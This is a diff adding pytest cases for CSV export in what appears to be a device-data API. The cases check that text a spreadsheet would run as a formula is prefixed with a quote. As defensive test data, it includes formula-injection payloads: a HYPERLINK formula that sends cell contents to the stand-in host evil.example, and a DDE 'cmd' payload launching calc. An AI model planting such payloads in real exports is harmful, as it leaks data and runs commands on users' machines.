@@ -361,6 +361,32 @@ class TestExport:
         assert len(lines) == 31
         assert [line.rsplit(",", 1)[1] for line in lines[1:]] == [str(float(i)) for i in range(30)]
 
+    @pytest.mark.parametrize(
+        ("sent", "written"),
+        [
+            ('=HYPERLINK("http://evil.example/?"&A1,"details")', '\'=HYPERLINK("http://evil.example/?"&A1,"details")'),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("a=b+c", "a=b+c"),
+            ("'quoted", "'quoted"),
+        ],
+    )
+    def test_it_prefixes_text_a_spreadsheet_would_run_as_a_formula(self, viewer, sent: str, written: str) -> None:
+        ingest(endpoint_name="dev-f", readings=[reading("/3/0/0", DataType.STRING, sent, T0_MS)])
+        response = as_user(viewer).get("/api/v1/endpoints/dev-f/export.csv")
+        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+        assert [row[6] for row in rows[1:]] == [written]
+
+    def test_numbers_stay_numbers_even_when_negative(self, viewer) -> None:
+        temperatures("dev-n", [-5.5, -0.25])
+        ingest(endpoint_name="dev-n", readings=[reading("/3/0/9", DataType.INTEGER, -1, T0_MS)])
+        response = as_user(viewer).get("/api/v1/endpoints/dev-n/export.csv")
+        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+        assert sorted(row[6] for row in rows[1:]) == ["-0.25", "-1", "-5.5"]
+
     def test_export_needs_a_role(self, outsider, fleet) -> None:
         assert as_user(outsider).get("/api/v1/endpoints/dev-a/export.csv").status_code == 403
 
